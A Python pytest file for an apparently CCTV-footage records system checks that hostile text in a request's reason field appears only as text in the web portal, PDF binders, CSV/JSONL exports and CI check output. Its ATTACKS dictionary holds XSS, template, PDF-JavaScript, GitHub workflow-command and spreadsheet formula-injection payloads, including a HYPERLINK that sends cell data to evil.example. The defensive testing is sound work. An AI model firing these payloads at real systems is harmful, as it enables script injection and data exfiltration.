"""D33: each kind of attack in a record's text, through every output: it shows as text, and does nothing.

The text goes the way an attacker's would: into a request that is approved and lands, from there into evidence,
register, portal, binder, exports, and into what a check prints on a build server.
"""

from __future__ import annotations

import csv
import json
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from playwright.sync_api import Browser

from footage.cli.building import build_all
from footage.cli.talk import Progress
from footage.demo.clock import moment
from footage.exports import export
from footage.finding import Severity
from footage.register import open_readonly
from footage.report import ReportContext, render
from gate_house import House

NAME = "张" * 300
ATTACKS = {
    "script": "<script>window.attacked=1</script><img src=x onerror=window.attacked=1><svg onload=window.attacked=1>",
    "attribute": '" onmouseover="window.attacked=1" x=\'\' autofocus onfocus=window.attacked=1 y="',
    "style": "</style><style>*{display:none}</style><link rel=stylesheet href=http://evil.example/x.css>",
    "template": "{{ 7*7 }} {% raw %} ${7*7} #{7*7} {0.__class__} %s %(x)s",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "command": "::error file=records/x.yml,line=1::伪造的错误 %0A::set-output name=x::y ::stop-commands::z",
    "markdown": "[点此](javascript:window.attacked=1) ![x](http://evil.example/p.png) **粗** `码` | 列 | <!-- -->",
    "traditional": "請協助查閱監視錄影，車輛於門口擦撞，謝謝。",
    "long name": NAME,
    "long word": "A" * 900,
    "pdf": "</pdf:x> %PDF-1.7 endobj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
    "entities": "&lt;script&gt;window.attacked=1&lt;/script&gt; &amp;amp; &#x202e; &nbsp;",
}
ORDER = list(ATTACKS)
PADDING = "（需要核实的经过）"


class Built:
    """Everything that came of the attacks."""

    def __init__(self, house: House, out: Path) -> None:
        self.out = out
        self.cases: dict[str, str] = {}
        self.records: dict[str, dict[str, Any]] = {}
        for minute, name in enumerate(ORDER):
            number = house.ask(f"03-02 09:{minute:02}", label=name, reason=ATTACKS[name] + PADDING)
            self.cases[name] = house.cases[number].id
            self.records[name] = dict(house.cases[number].data)
            house.sign(number, "03-02", "lin-hao", "qian-li", "sun-wei")
        house.turn("03-02 12:00")
        build_all(
            house.directory / "server", out, moment("03-02 12:00"), None, Progress("zh", quiet=True), binders=True,
            chosen=tuple(self.cases.values()),
        )  # fmt: skip


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Built]:
    folder = tmp_path_factory.mktemp("hostile")
    house = House(folder)
    house.begin()
    yield Built(house, folder / "out")
    house.close()


def _bare(text: str) -> str:
    return re.sub(r"\s+", "", text)


def test_the_portal_shows_it_as_text_and_nothing_runs(built: Built, browser: Browser) -> None:
    page = browser.new_context().new_page()
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for name, case in built.cases.items():
        for lang in ("zh", "en"):
            page.goto((built.out / "site" / lang / "cases" / case / "index.html").as_uri())
            shown = _bare(page.locator("main").inner_text())
            assert _bare(ATTACKS[name]) in shown, f"{name} in {lang}"
            assert page.evaluate("window.attacked") is None, name
    assert [url for url in asked if not url.startswith(("file:", "data:"))] == []


def test_lists_of_the_portal_hold_it_too(built: Built, browser: Browser) -> None:
    page = browser.new_context().new_page()
    names = ("cases", "work", "work/security_reviewer", "figures", "signals", "samples", "remedies")
    for place in ("index.html", *(f"{name}/index.html" for name in names)):
        page.goto((built.out / "site" / "zh" / place).as_uri())
        assert page.evaluate("window.attacked") is None, place
        assert page.locator("main").is_visible()


@pytest.mark.parametrize("name", ORDER)
def test_the_binder_prints_it_and_does_nothing(built: Built, name: str) -> None:
    file = built.out / "binders" / f"{built.cases[name]}.zh.pdf"
    text = subprocess.run(["pdftotext", "-raw", str(file), "-"], capture_output=True, text=True, check=True).stdout
    assert _bare(ATTACKS[name])[:150] in _bare(text), name
    with pikepdf.open(file) as pdf:
        assert "/OpenAction" not in pdf.Root
        assert "/JavaScript" not in pdf.Root.get("/Names", pikepdf.Dictionary())
        links = [a.get("/A", {}) for page in pdf.pages for a in page.get("/Annots", [])]
        assert {str(each.get("/S")) for each in links if each} <= {"/GoTo", "/URI"}
        assert not any("evil" in str(each.get("/URI", "")) for each in links)


def test_no_spreadsheet_runs_a_cell_and_json_keeps_it(built: Built, tmp_path: Path) -> None:
    with open_readonly(built.out / "register.sqlite") as connection:
        export(connection, tmp_path / "csv", "csv")
        export(connection, tmp_path / "jsonl", "jsonl")
    rows = list(csv.reader((tmp_path / "csv" / "request.csv").read_text("utf-8-sig").splitlines()))
    at, ids = rows[0].index("reason"), rows[0].index("id")
    by_case = {row[ids]: row[at] for row in rows[1:]}
    for name, case in built.cases.items():
        cell = by_case[case]
        assert cell.removeprefix("'") == ATTACKS[name] + PADDING
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), name
    for file in sorted((tmp_path / "csv").iterdir()):
        for row in csv.reader(file.read_text("utf-8-sig").splitlines()):
            assert not any(re.match(r"[=+@\t\r]", cell) for cell in row), file.name
    lines = [json.loads(line) for line in (tmp_path / "jsonl" / "request.jsonl").read_text("utf-8").splitlines()]
    assert {each["id"]: each["reason"] for each in lines} == {
        case: ATTACKS[name] + PADDING for name, case in built.cases.items()
    }


@pytest.mark.parametrize("name", ORDER)
def test_a_build_server_takes_no_command_from_it(name: str) -> None:
    import example_records as examples
    from footage.checking import check
    from footage.repository import MemoryTree

    text = examples.records()["records/sites/cameras/CAM-P1-03.yml"].decode()
    bad = {
        **examples.schemas(),
        **examples.records(),
        "records/sites/cameras/CAM-P1-03.yml": re.sub(
            r"^zone: .*$", lambda _: f"zone: {json.dumps(ATTACKS[name], ensure_ascii=False)}", text, flags=re.MULTILINE
        ).encode(),
    }
    found = [each for each in check(MemoryTree(bad), examples.kinds()) if each.severity is Severity.ERROR]
    assert found, "the value is no id of a zone"
    for lang in ("zh", "en"):
        printed = render(found, "github", lang, context=ReportContext("footage", "", ""))
        lines = printed.splitlines()
        assert len(lines) == len(found)
        assert all(re.match(r"::(error|warning|notice) file=records/[^,:]*,line=\d+", line) for line in lines)
        plain = render(found, "text", lang, context=ReportContext("footage", "", ""))
        assert "\x1b" not in plain


@pytest.mark.parametrize("hidden", ["\u202e", "\u2066", "\x00", "\x1b", "\x85", "\u2028", "\ufeff", "\x07"])
def test_what_would_hide_or_reorder_text_does_not_get_in(hidden: str) -> None:
    import example_records as examples
    from footage.checking import check
    from footage.repository import MemoryTree

    for written in (hidden, "".join(f"\\u{ord(each):04x}" for each in hidden)):
        files = {**examples.schemas(), **examples.records()}
        path = f"{examples.CASE}/request.yml"
        files[path] = files[path].replace("需要核对".encode(), f"需要{written}核对".encode(), 1)
        if written != hidden:
            files["records/org/departments/x.yml"] = f'kind: department\nid: "x{written}"\n'.encode()
        found = check(MemoryTree(files), examples.kinds())
        assert any(each.severity is Severity.ERROR for each in found)
        printed = render(found, "text", "zh", context=ReportContext("footage", "", ""))
        assert hidden not in printed
